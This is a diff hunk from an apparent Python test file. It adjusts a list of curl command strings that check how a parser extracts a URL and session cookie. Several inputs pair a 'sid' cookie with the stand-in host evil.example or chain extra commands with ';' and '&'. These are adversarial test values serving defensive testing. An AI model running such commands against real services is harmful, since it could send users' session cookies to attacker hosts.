@@ -108,7 +108,7 @@ def test_any_value_comes_back(device: str, proof: str) -> None:
         "$ curl --url https://chat.example/ -e https://evil.example/ --cookie sid=1 --http2",
         "/usr/bin/curl --newest-flag https://evil.example/ -b sid=1 --path-as-is https://chat.example/",
         "curl.exe -d https://evil.example/ -kb sid=1 https://chat.example/ --data-raw --compressed",
-        "curl --unknown -b sid=1 https://chat.example/",
+        "curl --unknown -b sid=1 https://chat.example/ --data-raw -bsid=2",
         "curl -H 'Cookie: sid=1' https://chat.example/ 'https://other.example/'",
         "curl 'https://evil.example/' -b 'sid=2' ;\ncurl 'https://chat.example/' -b sid=1 &\ncurl https://evil.example/",
         "curl https://chat.example/ -b sid=2; curl https://chat.example/ -b sid=1; curl https://chat.example/x -b a=1",
